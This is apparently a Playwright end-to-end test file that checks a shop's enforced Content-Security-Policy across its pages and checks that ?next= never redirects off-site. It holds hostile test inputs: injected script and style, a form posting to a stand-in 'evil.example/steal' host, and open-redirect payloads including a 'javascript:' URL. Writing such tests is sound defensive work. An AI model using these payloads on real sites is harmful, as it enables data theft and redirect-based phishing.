"""The Content-Security-Policy in Chromium, enforced (not report-only): every storefront route (one URL of each
shape the sitemap publishes, and the routes it does not list), the account pages, the cart and checkout (cash, and
the card form posted to LiqPay), every admin screen and the API docs load and work without one CSP violation, CSP
console report or page error; what the policy forbids is refused; and ``?next=`` never leaves the shop."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Page, expect

from shop.demo.catalogue import ADMIN_EMAIL, ADMIN_SECRET, SHOPPER_SECRET, SHOPPERS
from tests.e2e.helpers import add_to_cart, api, pick_products

OLENA = (SHOPPERS[0][0], SHOPPER_SECRET)
ACCOUNT_PAGES = ("downloads", "affiliate", "change-password", "edit-info", "address-book", "newsletter",
                 "order-history", "payment-profile", "recurring-payments", "returns", "reward-points", "transactions")
# Storefront routes a sitemap does not list (private, per shopper, or a search).
UNLISTED = ("/search", "/search/lycra?category=FABRICS", "/search/qqqzzzxx", "/wishlist", "/cart", "/faq",
            "/forgot-password", "/reset-password", "/reset-password/not-a-real-token", "/account/registration",
            "/account/authorization", "/?lng=ua", "/products/NO-SUCH-SKU")
LIQPAY_CHECKOUT = "https://www.liqpay.ua/api/3/checkout"
EVIL = "evil.example"

# An init script runs before the page's own scripts and outside its policy; it hands each violation event to
# the test through an exposed function.
REPORT_VIOLATIONS = """
document.addEventListener('securitypolicyviolation', (event) => {
  window.__shopCspViolation(`${event.disposition} ${event.effectiveDirective} refused ${event.blockedURI || 'inline'}`
    + ` at ${event.sourceFile || document.location.href}:${event.lineNumber} (${event.sample})`);
}, true);
"""


class Watch:
    """Every CSP violation, console report of one and uncaught error of a page, by the page's address."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.problems: list[str] = []
        page.expose_function("__shopCspViolation", lambda text: self.problems.append(f"{page.url}: {text}"))
        page.add_init_script(REPORT_VIOLATIONS)
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.problems.append(f"{page.url}: page error {error}"))

    def _console(self, message) -> None:
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.problems.append(f"{self.page.url}: console {message.type}: {message.text}")

    def settle(self) -> None:
        """The page has drawn its heading, shown what is below the fold, and fetched all it wanted."""
        expect(self.page.locator("h1").first).to_be_visible()
        self.page.evaluate("window.scrollTo(0, document.documentElement.scrollHeight)")
        self.page.wait_for_load_state("networkidle")

    def visit(self, path: str) -> None:
        response = self.page.goto(path)
        assert response is not None and "content-security-policy" in response.headers, path
        assert "content-security-policy-report-only" not in response.headers, path
        self.settle()

    def assert_clean(self) -> None:
        assert self.problems == [], "\n".join(self.problems)


@pytest.fixture()
def watch(page: Page) -> Iterator[Watch]:
    watched = Watch(page)
    yield watched
    watched.assert_clean()


def signed_in(page: Page, email: str, password: str) -> dict:
    response = page.request.post("/api/users/signin", data={"email": email, "password": password})
    assert response.ok, response.status
    return response.json()


def store_session(page: Page, session: dict) -> None:
    """The session in localStorage `user`, as the sign-in page leaves it."""
    page.goto("/api/health")
    page.evaluate("session => localStorage.setItem('user', JSON.stringify(session))", session)


def sitemap_routes(page: Page) -> list[str]:
    """One URL of each shape the sitemaps publish: /, each content page, /products/x, /fabrics/x/y/z ..."""
    index = page.request.get("/sitemap.xml").text()
    shapes: dict[tuple[str, int], str] = {}
    for name in re.findall(r"/sitemaps/([^<]+)</loc>", index):
        for loc in re.findall(r"<loc>([^<]+)</loc>", page.request.get(f"/sitemaps/{name}").text()):
            parts = urlsplit(loc)
            path = parts.path + (f"?{parts.query}" if parts.query else "")
            segments = [s for s in parts.path.split("/") if s]
            shapes.setdefault((segments[0] if segments else "", len(segments)), path)
    return list(shapes.values())


# ------------------------------------------------------------------------------------------ the storefront


def test_every_storefront_route_loads_without_a_violation(page: Page, watch: Watch):
    routes = sitemap_routes(page)
    # The sitemap covers the spec's public routes: nested categories, brands, colours, products, content pages.
    for expected in ("/", "/new", "/sale", "/brands", "/collections", "/crystals", "/accessories", "/fabrics",
                     "/browse-by-color", "/gift-cards", "/about", "/FAQ", "/payment", "/contact-us",
                     "/privacy-policy"):
        assert expected in routes, expected
    for main in ("brands", "fabrics", "crystals", "accessories", "browse-by-color", "collections", "products"):
        assert any(route.startswith(f"/{main}/") for route in routes), main
    assert any(route.count("/") == 4 for route in routes if route.startswith("/fabrics/"))
    for path in routes + list(UNLISTED):
        watch.visit(path)
        if path.startswith("/products/") and "NO-SUCH" not in path:
            # The server-written structured data is there, and being data it asked nothing of the policy.
            assert page.locator('head script[type="application/ld+json"]').count() == 1
    # An unknown path shows the not-found page, which takes the visitor home.
    watch.visit("/no/such/page")
    expect(page).to_have_url(re.compile(r"/$"), timeout=10_000)
    watch.settle()


def test_the_shell_s_live_parts_work_under_the_policy(page: Page, watch: Watch):
    """Mega menu, live search, the call-back form and its toast (the toasts' style element carries the nonce)."""
    watch.visit("/")
    banner = page.get_by_role("banner")
    page.locator("nav.category-bar").get_by_role("link", name="Fabrics", exact=True).hover()
    panel = page.locator("#mega-menu-fabrics")
    expect(panel.get_by_role("link").first).to_be_visible()
    expect(panel.locator(".mega-menu__skeleton")).to_have_count(0)
    page.mouse.move(5, 800)

    banner.get_by_role("link", name="Open search").click()
    search = page.get_by_role("search", name="Product search")
    search.get_by_role("searchbox", name="Search products").fill("lycra")
    expect(page.get_by_role("list", name="Suggested products").get_by_role("link")).to_have_count(4)
    banner.get_by_role("link", name="Close search").click()

    banner.get_by_role("button", name=re.compile(r"^Call us")).click()
    page.get_by_role("button", name="Order a call back").click()
    dialog = page.get_by_role("dialog", name="Order a call back")
    dialog.get_by_label("Your name").fill("Olena")
    dialog.get_by_label("Phone number").fill("+380501234567")
    dialog.get_by_label("Your question").fill("Which lycra suits a Latin dress?")
    dialog.get_by_role("checkbox", name="I have read and agree to the Privacy Policy").check()
    dialog.get_by_role("button", name="Call me back").click()
    toast = page.get_by_role("status").filter(has_text="You have ordered a call, we will contact you shortly.")
    expect(toast).to_be_visible()
    # Drawn by the library's own rules, which the policy let in by the page's nonce: a white card.
    assert toast.locator("xpath=..").evaluate("bar => getComputedStyle(bar).backgroundColor") == "rgb(255, 255, 255)"
    page.wait_for_load_state("networkidle")


def test_the_policy_is_enforced_not_only_reported(page: Page):
    watch = Watch(page)
    watch.visit("/")
    refused = page.evaluate("""async (evil) => {
        const refusal = () => new Promise((resolve) => document.addEventListener(
            'securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true }));
        const outcome = {};
        let next = refusal();
        const script = document.createElement('script');
        script.textContent = 'window.__injected = true';
        document.body.append(script);
        outcome[await next] = window.__injected === true;
        next = refusal();
        const holder = document.createElement('div');
        holder.innerHTML = '<p style="display: none">injected</p>';
        document.body.append(holder);
        outcome[await next] = getComputedStyle(holder.firstChild).display;
        next = refusal();
        const form = document.createElement('form');
        form.method = 'POST';
        form.action = `https://${evil}/steal`;
        document.body.append(form);
        form.submit();
        outcome[await next] = location.hostname;
        return outcome;
    }""", EVIL)
    # The script did not run, the style attribute did not apply, the form did not leave.
    assert refused == {"script-src-elem": False, "style-src-attr": "block", "form-action": "127.0.0.1"}
    # The watch the other tests rely on saw each refusal (so their empty lists mean something).
    for _ in range(100):
        if len(watch.problems) >= 6:  # each reported twice: the event, and Chromium's console line
            break
        page.evaluate("() => new Promise((resolve) => setTimeout(resolve, 20))")
    reported = " ".join(watch.problems)
    for directive in ("script-src-elem", "style-src-attr", "form-action"):
        assert f"enforce {directive} refused" in reported, watch.problems


# ------------------------------------------------------------------------------------------ cart and checkout


def test_cart_and_checkout_with_cash_and_with_liqpay_s_card_page(page: Page, watch: Watch, live_app, monkeypatch):
    fabric, crystal = pick_products(page)
    add_to_cart(page, fabric, length="1.3")
    add_to_cart(page, crystal)
    watch.visit("/cart")
    page.get_by_role("link", name="Proceed to checkout").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Checkout")
    watch.settle()
    page.get_by_label("First name", exact=True).fill("Emma")
    page.get_by_label("Last name", exact=True).fill("Clarke")
    page.get_by_label("Email", exact=True).fill("emma.csp@example.com")
    page.get_by_label("Phone", exact=True).fill("+44 7700 900123")
    page.get_by_role("radio", name=re.compile("^Nova Poshta branch")).check()
    page.get_by_label("City or town").fill("Kyiv")
    page.get_by_label("Branch number").fill("12")
    page.get_by_role("radio", name=re.compile("^Cash on delivery")).check()
    page.get_by_role("button", name="Place order").click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Thank you for your order!")
    watch.settle()

    # The card: the browser posts the signed form to LiqPay's page (form-action allows that origin alone).
    monkeypatch.setitem(live_app.config, "SHOP_LIQPAY_PUBLIC_KEY", "sandbox_public")
    monkeypatch.setitem(live_app.config, "SHOP_LIQPAY_PRIVATE_KEY", "sandbox_private")
    posted: list[str] = []

    def liqpay_page(route) -> None:
        posted.append(route.request.post_data or "")
        route.fulfill(content_type="text/html", body="<!doctype html><title>LiqPay</title><h1>LiqPay checkout</h1>")

    page.route(LIQPAY_CHECKOUT, liqpay_page)
    add_to_cart(page, crystal)
    page.evaluate("localStorage.setItem('currency', 'EUR')")
    watch.visit("/cart/checkout")
    page.get_by_label("First name", exact=True).fill("Emma")
    page.get_by_label("Last name", exact=True).fill("Clarke")
    page.get_by_label("Email", exact=True).fill("emma.csp@example.com")
    page.get_by_label("Phone", exact=True).fill("+44 7700 900123")
    page.get_by_role("radio", name=re.compile("^Nova Poshta branch")).check()
    page.get_by_label("City or town").fill("Kyiv")
    page.get_by_label("Branch number").fill("12")
    page.get_by_role("radio", name=re.compile(r"^Card online \(LiqPay\)")).check()
    page.get_by_role("button", name="Place order").click()
    expect(page).to_have_url(LIQPAY_CHECKOUT)
    expect(page.get_by_role("heading", level=1)).to_have_text("LiqPay checkout")
    assert len(posted) == 1 and "signature=" in posted[0]


# ------------------------------------------------------------------------------------------ accounts


def test_sign_in_and_every_account_page(page: Page, watch: Watch):
    watch.visit("/account/order-history")  # signed out: sent to sign in, and back here afterwards
    expect(page).to_have_url(re.compile(r"/account/authorization\?next="))
    page.get_by_label("Email").fill(OLENA[0])
    page.get_by_label("Password").fill(OLENA[1])
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(re.compile(r"/account/order-history$"))
    watch.settle()
    for path in ["/account", "/account/modify-address-book/add-address",
                 *(f"/account/{slug}" for slug in ACCOUNT_PAGES)]:
        watch.visit(path)
        expect(page).to_have_url(re.compile(re.escape(path) + "$"))


# ------------------------------------------------------------------------------------------ staff


def test_every_admin_screen(page: Page, watch: Watch):
    staff = signed_in(page, ADMIN_EMAIL, ADMIN_SECRET)
    headers = {"Authorization": f"Bearer {staff['token']}"}
    order = page.request.get("/api/orders?page=1&limit=1", headers=headers).json()[0]
    product = api(page, "/api/products-feed/main-category/fabrics?limit=1")["products"][0]
    store_session(page, staff)
    for path in ("/admin-dash", "/admin-dash/queries", "/admin-dash/view-order",
                 f"/admin-dash/order-details/{order['_id']}", "/admin-dash/all-products",
                 "/admin-dash/all-products/fabrics", "/admin-dash/main-slider", "/admin-dash/colors",
                 f"/admin-dash/all-products?edit={product['_id']}"):
        watch.visit(path)
        expect(page.locator(".admin-skeleton")).to_have_count(0)
    expect(page.get_by_role("dialog")).to_be_visible()  # the product modal, with its images


def test_the_api_docs_page_runs_swagger_ui_under_its_own_policy(page: Page, watch: Watch):
    page.goto("/api/docs")
    expect(page.get_by_text("Dance Fabrics Shop API").first).to_be_visible()
    page.locator("#operations-tag-currencies").click()  # the tags start collapsed
    operation = page.locator(".opblock").filter(has_text="/api/currencies").first
    operation.locator(".opblock-summary").click()
    operation.get_by_role("button", name="Try it out").click()
    operation.get_by_role("button", name="Execute").click()
    expect(operation.locator(".response .response-col_status").first).to_have_text("200")
    page.wait_for_load_state("networkidle")


# ------------------------------------------------------------------------------------------ ?next=


BACKSLASH_NEXT = f"/\\{EVIL}"
HOSTILE_NEXT = (f"//{EVIL}/account", BACKSLASH_NEXT, f"https://{EVIL}/", "javascript:alert(document.domain)",
                f"/..//{EVIL}", f"/\t/{EVIL}")


def test_next_never_leaves_the_shop(page: Page, watch: Watch, live_server: str):
    left: list[str] = []
    page.route(re.compile(rf"https?://{re.escape(EVIL)}.*"), lambda route: (left.append(route.request.url),
                                                                             route.abort()))
    page.on("dialog", lambda dialog: (left.append(f"dialog {dialog.message}"), dialog.dismiss()))

    # Through the form: signing in with a hostile ?next= ends on the account.
    page.goto(f"/account/authorization?next={quote(HOSTILE_NEXT[0], safe='')}")
    page.get_by_label("Email").fill(OLENA[0])
    page.get_by_label("Password").fill(OLENA[1])
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(f"{live_server}/account")
    watch.settle()

    # Signed in already, every other form of it as well (the sign-in page then redirects at once).
    for target in HOSTILE_NEXT:
        page.goto(f"/account/authorization?next={quote(target, safe='')}")
        expect(page).to_have_url(f"{live_server}/account")
        expect(page.locator("h1").first).to_be_visible()
    assert left == []

    # A path of the shop is followed: the checkout's "sign in" link comes back to the checkout.
    page.goto(f"/account/authorization?next={quote('/cart/checkout?step=2', safe='')}")
    expect(page).to_have_url(re.compile(rf"^{re.escape(live_server)}/cart"))


def test_sign_up_with_a_hostile_next_ends_on_the_account(page: Page, watch: Watch, live_server: str):
    page.goto(f"/account/registration?next={quote(BACKSLASH_NEXT, safe='')}")
    page.get_by_label("First name").fill("Iryna")
    page.get_by_label("Last name").fill("Bondar")
    page.get_by_label("Email").fill(f"csp-next-{page.evaluate('crypto.randomUUID()')[:8]}@example.com")
    page.get_by_label("Password", exact=True).fill("first-secret-2026")
    page.get_by_label("Confirm password").fill("first-secret-2026")
    page.get_by_role("button", name="Create account").click()
    expect(page).to_have_url(f"{live_server}/account")
    watch.settle()
